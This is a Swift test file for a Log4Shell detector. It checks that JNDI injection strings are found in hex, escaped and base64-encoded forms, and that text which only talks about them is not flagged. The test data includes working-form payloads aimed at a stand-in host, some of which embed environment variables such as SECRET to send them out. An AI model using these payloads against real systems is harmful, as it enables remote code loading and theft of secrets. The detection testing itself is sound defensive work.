import Bytes
import Foundation
import Testing

@testable import Detectors

private let payload = "${jndi:ldap://h.example:1389/a}"

private func each(_ format: (UInt8) -> String) -> String { payload.utf8.map(format).joined() }

private func hex(_ byte: UInt8) -> String { (byte < 16 ? "0" : "") + String(byte, radix: 16) }

/// Encodings that few tools write and all tools read, beside texts that are only like them.
@Suite struct RareEncodingsTests {
  @Test(arguments: [
    each { "\\U000000\(hex($0))" }, each { "\\x{\(hex($0))}" }, "user=" + each { "\(hex($0)) " },
    each { "\(hex($0))00" }, "p=" + each { "\(hex($0))00" } + "0d0a", each { "\(Character(Unicode.Scalar($0)))&#0;" },
    each { "\(Character(Unicode.Scalar($0)))\\000" },
  ])
  func isUndone(text: String) {
    let found = log4shell(text)
    #expect(found?.host == "h.example", "\(text)")
    #expect(found?.port == 1389)
    #expect(found?.path == "/a")
  }

  @Test(arguments: ["\\n", "\\r\\n", "%0A", "%0D%0A", "\n"])
  func linesOfBase64MayHaveEscapedEnds(end: String) {
    let text = "{\"mail\":\"padding padding padding padding padd\(payload) and so on, as mail goes\"}"
    let digits = Data(text.utf8).base64EncodedString()
    let lines = stride(from: 0, to: digits.count, by: 76).map { digits.dropFirst($0).prefix(76) }
    #expect(lines.count > 1)
    let found = log4shell(lines.joined(separator: end))
    #expect(found?.host == "h.example")
    #expect(found?.port == 1389)
    // Words behind a shorter line are no digits.
    #expect(Data("abc".utf8).base64EncodedString().withView { Base64.decode($0) } == Array("abc".utf8))
    let short = "YWJj\(end)ZGVm".withView { Base64.runs(in: $0, minimum: 4).first }
    #expect(short == 0..<4)
  }

  @Test(arguments: [
    "failregex = ^<HOST> .*\\$\\{jndi:", "pattern: \"\\$\\{jndi:\"", "A payload looks like ${jndi:ldap://...}",
    "${jndi:ldap://…}", "${jndi:ldap://.../a}", "hash 247b6a00ff0011223344556677889900", "24 7b 6a is how it begins",
    "tr '\\000' '\\n'", "\\U0001F600", "\\x{1F600}", "&#0;",
  ])
  func wordsAboutItStayQuiet(text: String) { #expect(log4shell(text) == nil) }

  /// What is cut or escaped but names a place is one.
  @Test func whatNamesAPlaceIsOne() {
    #expect(log4shell("\\$\\{jndi:ldap://h.example/a\\}")?.host == "h.example")
    #expect(log4shell("{\"ua\":\"\\\"${jndi:ldap://h.example/a}\\\"\"}")?.host == "h.example")
    #expect(log4shell("${jndi:") != nil)
    #expect(log4shell("%24%7Bjndi:") != nil)
    #expect(log4shell("${jndi:ldap://..h.example/a}")?.host == "..h.example")
  }

  /// A whole word as a default is there to be sent where there is nothing to steal; a letter only spells.
  @Test func defaultsThatAreWordsSendTheNameAlong() {
    #expect(log4shell("${jndi:ldap://${env:USER:-nobody}.h.example/a}")?.leaks == ["env:USER"])
    #expect(log4shell("${${env:USER:-j}ndi:ldap://h.example/a}")?.leaks == [])
    #expect(log4shell("${jndi:ldap://${env:FOO:-nobody}.h.example/a}")?.leaks == [])
  }

  @Test func whatIsUnknownIsNotDecoded() {
    let found = log4shell("${jndi:ldap://${base64:${env:SECRET}}.h.example/a}")
    #expect(found?.host == "${base64:${env:SECRET}}.h.example")
    #expect(found?.leaks == ["env:SECRET"])
  }
}
